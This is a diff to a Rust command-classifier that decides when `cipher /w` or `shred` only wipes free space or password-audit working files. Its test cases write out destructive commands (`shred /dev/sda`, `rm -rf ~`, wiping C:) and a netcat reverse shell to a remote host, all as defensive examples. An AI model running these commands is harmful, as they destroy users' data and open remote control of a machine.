@@ -289,6 +289,65 @@ impl Of<'_, '_> {
         let line = self.layer.part(Span::new(hit.span.start, rest));
         is_rebuilt(self.layer.part(hit.span), line)
     }
+
+    /// Returns whether a command that the text shows only overwrites free space, or working files of an audit. A skill
+    /// that encrypts files must not make them unrecoverable.
+    pub(super) fn overwrites_own_work(&self, hit: &Match) -> bool {
+        let unit = self.layer.unit(hit.span);
+        let has = |signal| self.layer.within(signal, unit).next().is_some();
+        // The match may end in a second command.
+        let is_single = !self.layer.part(hit.span).contains([';', '&', '|']);
+        is_single
+            && self.is_shown(hit)
+            && !self.is_disguised(hit)
+            && !has(Signal::Conceal)
+            && !has(Signal::ConcealAct)
+            && !self.layer.has(Signal::Encrypt)
+            && is_own_work(self.command(hit))
+    }
+}
+
+/// Returns whether a command only overwrites the free space of a drive other than that of the system, or files which an
+/// audit has written.
+fn is_own_work(command: &str) -> bool {
+    /// The endings of such files, in lower case.
+    const WORK: [&str; 12] = [
+        ".cap",
+        ".hash",
+        ".hashes",
+        ".hccapx",
+        ".ntlm",
+        ".pcap",
+        ".pcapng",
+        ".pot",
+        ".potfile",
+        "cracked.txt",
+        "hash.txt",
+        "hashes.txt",
+    ];
+    let command = command.to_lowercase();
+    let mut words = command.split_whitespace();
+    let name = words.next();
+    let is_option = |word: &&str| word.starts_with('-') || word.parse::<u8>().is_ok();
+    let paths: Vec<&str> = words.filter(|word| !is_option(word)).collect();
+    let is_free = |path: &str| {
+        let mut drive = path.strip_prefix("/w:").unwrap_or_default().chars();
+        let letter = drive.next();
+        letter.is_some_and(|letter| letter.is_ascii_lowercase() && letter != 'c')
+            && drive.next() == Some(':')
+    };
+    let is_file = |path: &str| {
+        let path = path.trim_matches(['"', '\'']);
+        let path = path.strip_prefix("$home").unwrap_or(path);
+        !path.contains(['*', '?', '[', '{', '$', '('])
+            && !path.starts_with("/dev")
+            && WORK.iter().any(|end| path.ends_with(end))
+    };
+    match name {
+        Some("cipher") => paths.len() == 1 && paths.into_iter().all(is_free),
+        Some("shred") => !paths.is_empty() && paths.into_iter().all(is_file),
+        _ => false,
+    }
 }
 
 /// Returns whether a command contains at least one remote address, and every such address is private or a placeholder.
@@ -422,6 +481,31 @@ mod tests {
             ("nc fast-tables.io 4444 -e /bin/sh", false),
         ] {
             assert_eq!(are_own(command), expected, "{command}");
+        }
+    }
+
+    #[test]
+    fn free_space_and_working_files_are_own_work() {
+        for (command, expected) in [
+            (r"cipher /w:E:\", true),
+            (r"cipher /W:D:\audit", true),
+            ("shred -n 3 -z -u ~/.john/john.pot", true),
+            (
+                "shred -u ~/audit/hashes.txt \"$HOME/.hashcat/hashcat.potfile\"",
+                true,
+            ),
+            ("shred -zu /home/audit/wlan.hccapx", true),
+            (r"cipher /w:C:\", false),
+            ("cipher /w:$env:SystemDrive", false),
+            (r"cipher /e /w:E:\", false),
+            ("shred -u ~/Documents/*", false),
+            ("shred -u ~/*.pot", false),
+            ("shred -u ~/a.pot ~/Documents/report.docx", false),
+            ("shred /dev/sda", false),
+            ("shred -u", false),
+            ("rm -rf ~", false),
+        ] {
+            assert_eq!(is_own_work(command), expected, "{command}");
         }
     }
 
